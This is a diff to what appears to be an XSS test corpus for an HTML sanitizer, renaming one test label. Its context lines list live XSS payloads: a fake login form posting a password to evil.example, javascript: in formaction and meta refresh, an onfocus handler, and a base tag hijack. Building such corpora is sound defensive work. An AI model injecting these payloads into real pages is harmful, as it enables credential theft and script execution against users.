@@ -72,7 +72,7 @@ export const XSS_CORPUS: readonly XssVector[] = [
   // Forms
   body('form posting to another site', '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="pw"></label><button>Log in</button></form>'),
   body('button formaction javascript:', `<form><button formaction="javascript:${P}">Submit</button></form>`),
-  body('isindex / textarea with handler', `<textarea autofocus onfocus="${P}">notes</textarea>`),
+  body('textarea autofocus onfocus handler', `<textarea autofocus onfocus="${P}">notes</textarea>`),
   // base / meta refresh / link
   body('base tag in the body', '<base href="https://evil.example/">'),
   body('meta refresh to javascript:', `<meta http-equiv="refresh" content="3600;url=javascript:${P}">`),
